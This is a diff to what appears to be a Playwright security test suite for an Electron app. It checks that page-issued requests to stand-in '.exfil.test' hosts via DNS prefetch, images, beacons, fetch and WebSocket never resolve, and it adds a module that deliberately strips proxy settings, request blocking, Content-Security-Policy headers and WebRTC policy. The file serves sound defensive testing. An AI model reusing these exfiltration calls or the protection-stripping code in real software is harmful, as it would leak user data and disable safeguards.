@@ -4,6 +4,7 @@ import { once } from 'node:events';
 import { readFile } from 'node:fs/promises';
 import { createServer, type AddressInfo } from 'node:net';
 import { join } from 'node:path';
+import type { Page } from '@playwright/test';
 import { expect, test } from './fixtures.ts';
 import { unpackaged } from './program.ts';
 
@@ -26,10 +27,31 @@ async function resolvedNames(file: string): Promise<readonly string[]> {
   return [...new Set([...text.matchAll(/[\w-]+\.exfil\.test/g)].map(([name]) => name))];
 }
 
-test('a name that the page writes down is asked of nobody @security', async ({ app, person, folder }) => {
-  const file = join(folder, 'net-log.json');
-  await app.launch({ args: [`--log-net-log=${file}`] });
-  await app.window.evaluate(() => {
+/** Takes away what keeps the page from the network: to see that what is tried would reach it. */
+const withoutProtection = `
+const { app, protocol } = require('electron');
+const { appendSwitch } = app.commandLine;
+app.commandLine.appendSwitch = (name, ...value) => {
+  if (name !== 'blink-settings') appendSwitch.call(app.commandLine, name, ...value);
+};
+app.on('session-created', (session) => {
+  session.setProxy = async () => {};
+  session.webRequest.onBeforeRequest = () => {};
+});
+app.on('web-contents-created', (_event, contents) => {
+  contents.setWebRTCIPHandlingPolicy = () => {};
+  contents.forcefullyCrashRenderer = () => {};
+});
+const { handle } = protocol;
+protocol.handle = (scheme, answer) => handle.call(protocol, scheme, async (request) => {
+  const response = await answer(request);
+  response.headers.delete('content-security-policy');
+  return response;
+});`;
+
+/** Writes names down wherever Chromium may look one up. */
+async function writeNames(window: Page): Promise<void> {
+  await window.evaluate(() => {
     const allow = document.createElement('meta');
     allow.httpEquiv = 'x-dns-prefetch-control';
     allow.content = 'on';
@@ -49,12 +71,32 @@ test('a name that the page writes down is asked of nobody @security', async ({ a
     fetch('https://fetch.exfil.test/', { mode: 'no-cors' }).catch(() => {});
     new WebSocket('wss://socket.exfil.test/').addEventListener('error', () => {});
   });
+}
+
+test('a name that the page writes down is asked of nobody @security', async ({ app, person, folder }) => {
+  const file = join(folder, 'net-log.json');
+  await app.launch({ args: [`--log-net-log=${file}`] });
+  await writeNames(app.window);
   // Main's own calls come after them, through the same resolver.
   await app.button('Sign in').click();
   await person.followToBrowser();
   await app.button('Cancel').click();
   await app.quit();
   expect(await resolvedNames(file)).toEqual([]);
+});
+
+test('without its protection the page has these names looked up', unpackaged, async ({ app, folder }) => {
+  const file = join(folder, 'net-log.json');
+  await app.launch({ args: [`--log-net-log=${file}`], module: withoutProtection });
+  await writeNames(app.window);
+  await app.button('Sign in').click();
+  await app.nextOpenedUrl();
+  await app.button('Cancel').click();
+  await app.quit();
+  const names = ['dns-prefetch', 'image', 'beacon', 'fetch', 'socket'];
+  expect(await resolvedNames(file)).toEqual(
+    expect.arrayContaining(names.map((name) => `${name}.exfil.test`)),
+  );
 });
 
 test('a page has no WebRTC @security', async ({ app }) => {
@@ -82,7 +124,7 @@ test(
       socket.destroy();
     }).listen(0, '127.0.0.1');
     await Promise.all([once(stun, 'listening'), once(turn, 'listening')]);
-    await app.launch({ args: [`--log-net-log=${file}`], module: watchPages });
+    await app.launch({ args: [`--log-net-log=${file}`], module: watchPages, isSpawned: true });
     const loads = () => app.log().match(/page-loaded/g)?.length ?? 0;
     const before = loads();
     const crashed = app.window.waitForEvent('crash');
